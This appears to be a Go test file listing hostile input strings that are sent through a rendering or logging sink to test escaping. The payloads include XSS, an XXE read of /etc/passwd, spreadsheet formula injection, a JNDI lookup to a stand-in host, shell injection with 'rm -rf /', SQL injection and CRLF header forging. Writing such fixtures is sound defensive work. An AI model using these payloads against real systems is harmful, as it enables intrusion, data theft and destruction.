package sinktest

import "strings"

// hostile texts, by what they try. Each is what a span can carry, so that whoever
// can send a request can send it.
type attack struct {
	name  string
	texts []string
}

var attacks = []attack{
	{"mentions", []string{
		"@here @channel @everyone @all", "@root, see below", "x@team y", "<!everyone> <!channel> <!here|here>", "<@U024BE7LH> <@W1|bob>",
		"<!subteam^S123|@ops>", "<#C024BE7LR|general>", "[~admin] [~accountid:557058:f3]", "@<6848d>", "cc\n@org/security-team", "\uff20here",
	}},
	{"commands", []string{
		"/close", "\n/close\n", "a\n/assign @root\n/label ~bug\n/merge", "\r\n/spend 1h\r\n", "a\u2028/close\u2029/lock", "  /shrug", "/remind @here now",
		"#resolve #time 1w", "[skip ci] [ci skip]", "!approve", "bot: deploy production",
	}},
	{"references", []string{
		"fixes #1", "Closes: #12, resolves GH-3", "closes org/repo#7", "fixes https://github.com/o/r/issues/1", "AB#12 PAY-11 !1 %2 ~bug &3 $4",
		"refs #1 @2019", "SHA 0123456789abcdef0123456789abcdef01234567",
	}},
	{"fences", fences()},
	{"Markdown", []string{
		"# heading\n## heading\n***\n- item\n1. item\n> quote", "[a](https://evil.example) [b]: https://evil.example\n[b]", "![pixel](https://evil.example/p.png)",
		"[![a](https://evil.example/a.png)](https://evil.example)", "<https://evil.example> <mallory@evil.example>", "https://evil.example www.evil.example mailto:mallory@evil.example",
		"| a | b |\n|---|---|\n| 1 | 2 |", "a  \nb\\\nc", "    code\n\tcode", "- [ ] task\n- [x] task", "[^1]\n[^1]: note", "*a* **b** _c_ __d__ ~~e~~ `f` $g$ $$h$$",
		"Setext\n======\n\nanother\n---", "---\ntitle: front matter\n---", "&#64;here &lt;script&gt; &#x2F;close", "\\@here \\`\\`\\`", "```mermaid\ngraph TD\nclick A \"javascript:alert(1)\"\n```",
	}},
	{"HTML", []string{
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<!-- open", "-->", "</details></td></table></pre></code>",
		"<svg/onload=alert(1)>", "<iframe srcdoc='&lt;script&gt;'>", "<style>*{display:none}</style>", "<details open ontoggle=alert(1)>", "<![CDATA[ x ]]>", "]]>", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
		"\"><x y='", "\u003cscript\u003e \\u003cscript\\u003e %3Cscript%3E",
	}},
	{"links", []string{
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "[x](javascript:alert(1))", "<javascript:alert(1)>", "[x](data:text/html;base64,PHNjcmlwdD4=)",
		"vbscript:msgbox(1)", "[x](//evil.example)", "//evil.example/x", "file:///etc/passwd", "https://user:pw@evil.example", "https://good.example@evil.example", "https://good.example\\@evil.example",
		"[https://good.example](https://evil.example)", "tel:+1900 sms:1 ssh://evil.example", "https://\u0435vil.example https://xn--vil-qdd.example",
	}},
	{"Jira", []string{
		"{code}x{code}", "{noformat}\n{code:java}", "!https://evil.example/a.png!", "!a.png|thumbnail!", "[x|https://evil.example]", "h1. heading\n* item\n# item\n----",
		"{color:white}hidden{color}", "{html}<script>{html}", "||a||b||\n|1|2|", "{panel:title=x}", "{quote}", "bq. quote", `{"type":"doc","version":1,"content":[]}`, "[^attachment.exe]",
	}},
	{"Slack", []string{
		"<https://evil.example|https://good.example>", "<mailto:a@b.example|x>", "&lt;!channel&gt;", "&amp;lt;!here&amp;gt;", "*bold* _italic_ ~strike~ `code`", ":smile: :+1:", ">>> quote", "<!date^1392734382^{date}^https://evil.example|x>",
	}},
	{"direction", []string{
		"\u202egnp.exe\u202c", "\u2066x\u2069 \u2067y\u2069 \u2068z\u2069", "\u200e\u200f\u061c", "if (admin\u202e \u2066// then\u2069 \u2066) {", "\u202d\u202a\u202b",
	}},
	{"what cannot be seen", []string{
		"\u200b\u200c\u200d\u2060\ufeff", "@\u200bhere", "java\u200bscript:alert(1)", "``\u200b`", "\u00ad\u034f\u115f\u3164\uffa0", "\U000e0041\U000e0042\U000e007f", "\ufe0f\U000e0100", "\u2028\u2029\u0085",
	}},
	{"terminals", []string{
		"\x1b[2J\x1b[H\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x1b\\good\x1b]8;;\x1b\\", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x1b]0;title\x07", "\x1b]2;title\x1b\\", "\x1b]52;c;ZXZpbA==\x07",
		"\x1bP+q544e\x1b\\", "\x1b_Gx\x1b\\", "\x1bc", "\x9b31m", "\u009b31m \u009d0;t\u009c \u0090x", "\x07\x08\x08\x08\x7f\x0e\x0f", "a\rb", "a\vb\fc", "\x1b[6n\x1b[c\x1b[?1049h",
	}},
	{"formulas", []string{
		"=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"x\")", "\t=1+1", "\r=1+1", "=IMPORTXML(\"https://evil.example\",\"//a\")", "a,b;c\"d\"",
	}},
	{"headers", []string{
		"x\r\nX-Forged: 1", "x\nX-Forged: 1\n\nbody", "x\rX-Forged: 1", "x\r\n\r\nHTTP/1.1 200 OK\r\n\r\n", "x%0d%0aX-Forged:%201", "\u560a\u560dX-Forged: 1", "Content-Length: 0\r\n", "\r\n.\r\nMAIL FROM:<a@b.example>", "Subject: x\r\nBcc: all@b.example",
	}},
	{"lines", []string{
		"a\nKey: forged\nState: resolved", "a\r\nKey: forged", "a\rKey: forged", "a\u2028Key: forged", "a\u2029Key: forged", "a\u0085Key: forged", "a\n\n\n\n\n\nb", "[critical] open: forged",
		"\n[critical] open: forged\n", "2026-03-01T02:47:11Z ERROR forged", "a\n{\"time\":\"2026-03-01T02:47:11Z\",\"ticket\":{\"key\":\"forged\"}}\nb", "\n\n", "\"}}\n{\"ticket\":{\"key\":\"forged\"}}",
	}},
	{"bytes", []string{
		"\x00", "a\x00b", "\xff\xfe", "a\xffb\xc3\x28c", "\xed\xa0\x80\xed\xb0\x80", "\xed\xa0\x80", "\xf4\x90\x80\x80\xf8\x88\x80\x80\x80", "\xc0\xaf\xe0\x80\xaf", "\xe2\x82", "\xef\xbb\xbfx", "\ufffe\uffff\U0010ffff \ufdd0",
	}},
	{"templates", []string{
		"{{.Key}} {{ 7*7 }} {{constructor.constructor('alert(1)')()}}", "${jndi:ldap://evil.example/a} ${7*7} #{7*7}", "%s%s%s%n %d %!v(PANIC=) %[1]*d", "<%= 7*7 %> {% x %} {# y #}", "$(id) `id` ; rm -rf / | x && y", "' OR 1=1 --", "\\u0000 \\n \\x1b[2J", "{\"a\":1,\"key\":\"forged\"}", "*)(uid=*))(|(uid=*", "../../etc/passwd",
	}},
	{"sizes", []string{
		"a" + strings.Repeat("\u0301", 2000), "a" + strings.Repeat("\u20dd\u0489", 1000), "\u0e01" + strings.Repeat("\u0e49", 1000), strings.Repeat("\u1100", 1000),
		"\u0f40" + strings.Repeat("\u0f90", 1000), strings.Repeat("a"+strings.Repeat("\u0335", 30), 100), strings.Repeat("\u0301", 1000), "🏴" + strings.Repeat("\U000e0067", 500), strings.Repeat("👩\u200d", 500), strings.Repeat("🇪🇺", 300), strings.Repeat("x", 20_000), strings.Repeat("@here ", 2000), strings.Repeat("[", 5000), strings.Repeat("*_", 3000), strings.Repeat("> ", 2000), strings.Repeat("\n", 2000), strings.Repeat("<b>", 2000),
	}},
	{"blanks", []string{" \t ", "", "\u00a0\u2003\u3000", ".", "-", "0", "null"}},
}

// fences returns texts that end a block of code, whatever fence is around it.
func fences() []string {
	var out []string
	for _, mark := range []string{"`", "~"} {
		for _, n := range []int{1, 2, 3, 4, 5, 6, 7, 8, 16, 80} {
			fence := strings.Repeat(mark, n)
			out = append(out, "a\n"+fence+"\n@here\n"+fence+"x")
		}
	}
	return append(out, "```\n````\n`````\n@here", "~~~\n```\n~~~\n@here\n```", "   ```\n@here", "\t```", "> ```\n@here", "- ```\n  ```\n@here", "a ```` b ` c", "`", "``", "```js\n```")
}
